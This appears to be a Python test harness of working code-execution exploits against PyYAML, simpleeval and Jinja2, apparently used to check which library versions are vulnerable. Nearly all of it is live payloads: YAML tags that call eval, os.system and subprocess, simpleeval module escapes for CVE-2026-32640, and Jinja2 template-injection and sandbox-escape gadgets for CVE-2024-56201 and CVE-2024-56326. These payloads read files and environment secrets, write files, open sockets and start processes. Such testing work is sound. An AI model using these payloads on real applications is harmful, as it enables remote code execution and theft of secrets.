"""Known ways by which hostile input makes a library run code, as published: for each library, what an application calls, with what input.

Run as a program in an environment that has the library: reads attempts as JSON from stdin (each an attack's name and the `Targets` of one
effect), and prints what each of them gave as a line of JSON. Nothing is told apart here between a native library and a drop-in.
"""

from __future__ import annotations

import json
import sys
import warnings

EFFECTS = ("read", "write", "variable", "connect", "process")
"""Read a file, write one, read a variable, connect to a server, start a process."""


def expression(effect, target):
    """Python that has the effect. What is read comes back in the error of making it a number: nobody needs to print it."""
    return {
        "read": f"int(open({target!r}).read())",
        "write": f"open({target!r}, 'w').write('written')",
        "variable": f"int(__import__('os').environ[{target!r}])",
        "connect": f"__import__('socket').create_connection(('127.0.0.1', {target.partition(' ')[0]}), 5).sendall({target!r}.encode())",
        "process": f"__import__('os').system('echo started > {target}')",
    }[effect]


# PyYAML 5.3


def _quoted(text):
    return json.dumps(text)


def _yaml(loader, template):
    def attack(effect, target):
        import yaml

        text = template.replace("CODE", _quoted(expression(effect, target))).replace("TARGET", target)
        load = {"full_load": yaml.full_load, "unsafe_load": yaml.unsafe_load, "load": yaml.load}.get(loader)
        return load(text) if load else yaml.load(text, Loader=getattr(yaml, loader))

    return attack


APPLY = "!!python/object/apply:eval [CODE]"
APPLY_KWDS = "!!python/object/apply:eval\nargs: [CODE]\n"
NEW = "!!python/object/new:eval [CODE]"
NAME = "!!python/object/new:map [!!python/name:eval , [CODE]]"
EXTEND = "!!python/object/new:type\nargs: [z, !!python/tuple [], {extend: !!python/name:exec }]\nlistitems: CODE\n"  # CVE-2020-1747
STATE = (  # CVE-2020-1747
    "!!python/object/new:str\nargs: []\nstate: !!python/tuple\n- CODE\n- !!python/object/new:staticmethod\n  args: [0]\n  state:\n"
    "    update: !!python/name:exec\n"
)
TUPLE = "!!python/object/new:tuple [!!python/object/new:map [!!python/name:eval , [CODE]]]"  # CVE-2020-14343
FROZENSET = "!!python/object/new:frozenset [!!python/object/new:map [!!python/name:eval , [CODE]]]"  # CVE-2020-14343
SYSTEM = "!!python/object/apply:os.system ['echo started > TARGET']"
POPEN = "!!python/object/apply:subprocess.Popen [[touch, TARGET]]"
OUTPUT = "!!python/object/apply:subprocess.check_output [[touch, TARGET]]"
GETENV = "!!python/object/apply:int [!!python/object/apply:os.getenv [TARGET]]"
OPEN = "!!python/object/apply:open [TARGET, w]"
ENVIRON = "!!python/name:os.environ"

PROCESS = ("process",)
YAML = {
    "apply, unsafe_load": (_yaml("unsafe_load", APPLY), EFFECTS),
    "apply, UnsafeLoader": (_yaml("UnsafeLoader", APPLY), EFFECTS),
    "apply, Loader": (_yaml("Loader", APPLY_KWDS), EFFECTS),
    "new, unsafe_load": (_yaml("unsafe_load", NEW), EFFECTS),
    "CVE-2020-1747 by listitems, full_load": (_yaml("full_load", EXTEND), EFFECTS),
    "CVE-2020-1747 by listitems, load": (_yaml("load", EXTEND), EFFECTS),
    "CVE-2020-1747 by state, full_load": (_yaml("full_load", STATE), EFFECTS),
    "CVE-2020-1747 by state, FullLoader": (_yaml("FullLoader", STATE), EFFECTS),
    "CVE-2020-14343 by tuple, full_load": (_yaml("full_load", TUPLE), EFFECTS),
    "CVE-2020-14343 by frozenset, load": (_yaml("load", FROZENSET), EFFECTS),
    "os.system, unsafe_load": (_yaml("unsafe_load", SYSTEM), PROCESS),
    "Popen, unsafe_load": (_yaml("unsafe_load", POPEN), PROCESS),
    "check_output, Loader": (_yaml("Loader", OUTPUT), PROCESS),
    "getenv, unsafe_load": (_yaml("unsafe_load", GETENV), ("variable",)),
    "open, Loader": (_yaml("Loader", OPEN), ("write",)),
    "python/name:os.environ, full_load": (_yaml("full_load", ENVIRON), ("variable",)),
}

# simpleeval 1.0.3


def _module(effect, target):
    """CVE-2026-32640: a name that is a module, or has one as an attribute, leads to all others."""
    import importlib  # as most applications do

    import simpleeval

    assert importlib

    others = "library.sys.modules['importlib'].import_module"
    text = {
        "read": f"int({others}('pathlib').Path({target!r}).read_text())",
        "write": f"{others}('pathlib').Path({target!r}).write_text('written')",
        "variable": f"int({others}('os').environ[{target!r}])",
        "connect": f"{others}('socket').create_connection(address, 5).sendall({others}('codecs').encode({target!r}))",
        "process": f"{others}('os').system('echo started > {target}')",
    }[effect]
    address = ("127.0.0.1", int(target.partition(" ")[0])) if effect == "connect" else None
    return simpleeval.simple_eval(text, names={"library": simpleeval, "address": address})


def _path(effect, target):
    """CVE-2026-32640, by a module of the application's own."""
    import os.path

    import simpleeval

    text = {"variable": f"int(path.os.environ[{target!r}])", "process": f"path.os.system('echo started > {target}')"}[effect]
    return simpleeval.simple_eval(text, names={"path": os.path})


def _attribute(effect, target):
    """CVE-2026-32640, by an object that has a module as an attribute."""
    import os

    import simpleeval

    class Settings:
        system = os

    text = {"variable": f"int(settings.system.environ[{target!r}])", "process": f"settings.system.system('echo started > {target}')"}[
        effect
    ]
    return simpleeval.simple_eval(text, names={"settings": Settings()})


SIMPLEEVAL = {
    "CVE-2026-32640 by the library": (_module, EFFECTS),
    "CVE-2026-32640 by os.path": (_path, ("variable", "process")),
    "CVE-2026-32640 by an attribute": (_attribute, ("variable", "process")),
}

# Jinja2 3.1.4


def _template(effect, target, *, start):
    """What every cheat sheet of template injection has."""
    import jinja2

    return jinja2.Template("{{ START.__builtins__.eval(code) }}".replace("START", start)).render(code=expression(effect, target))


def _popen(_effect, target):
    import jinja2

    return jinja2.Template("{{ cycler.__init__.__globals__.os.popen('echo started > TARGET').read() }}".replace("TARGET", target)).render()


def _name(effect, target):
    """CVE-2024-56201: the name of a template gets into the code that is made of it, sandbox or not."""
    from jinja2 import DictLoader
    from jinja2.sandbox import SandboxedEnvironment

    name = f"{{eval(bytes({list(expression(effect, target).encode())}))}}"  # without a quote, which would be escaped
    templates = DictLoader({name: "{% from 'other' import missing %}{{ missing }}", "other": ""})
    return SandboxedEnvironment(loader=templates).get_template(name).render()


LEAK = "{0.__init__.__globals__[sys].modules[os].environ[TARGET]}"


def _format(_effect, target):
    """CVE-2024-56326: a filter of the application's calls what the template gives it, which is `str.format`."""
    from jinja2.sandbox import SandboxedEnvironment

    environment = SandboxedEnvironment()
    environment.filters["run"] = lambda value, argument: value.run(argument)
    text = "{% set ns = namespace() %}{% set ns.run = 'LEAK'.format %}{{ ns|run(missing) }}"
    return environment.from_string(text.replace("LEAK", LEAK.replace("TARGET", target))).render()


JINJA2 = {
    "cycler": (lambda effect, target: _template(effect, target, start="cycler.__init__.__globals__"), EFFECTS),
    "lipsum": (lambda effect, target: _template(effect, target, start="lipsum.__globals__"), EFFECTS),
    "self": (lambda effect, target: _template(effect, target, start="self.__init__.__globals__"), EFFECTS),
    "namespace": (lambda effect, target: _template(effect, target, start="namespace.__init__.__globals__"), EFFECTS),
    "popen": (_popen, PROCESS),
    "CVE-2024-56201 by a template's name": (_name, EFFECTS),
    "CVE-2024-56326 by a filter": (_format, ("variable",)),
}

FROM_HOST = {"CVE-2026-32640 by os.path", "CVE-2026-32640 by an attribute"}
"""Those that begin at a value of the application's: no grant opens a way there."""

ATTACKS = {"pyyaml": YAML, "simpleeval": SIMPLEEVAL, "jinja2": JINJA2}


def _shown(value):
    """What an application would see of an answer."""
    return f"{value!r}"[:20_000]


def main():
    """Make the attempts, whatever comes of each."""
    warnings.simplefilter("ignore")
    for library, name, effect, target in json.loads(sys.stdin.read()):
        try:
            answer = _shown(ATTACKS[library][name][0](effect, target))
        except BaseException as error:
            answer = f"{type(error).__name__}: {error}"[:20_000]
        print(json.dumps([library, name, effect, answer]), flush=True)


if __name__ == "__main__":
    main()
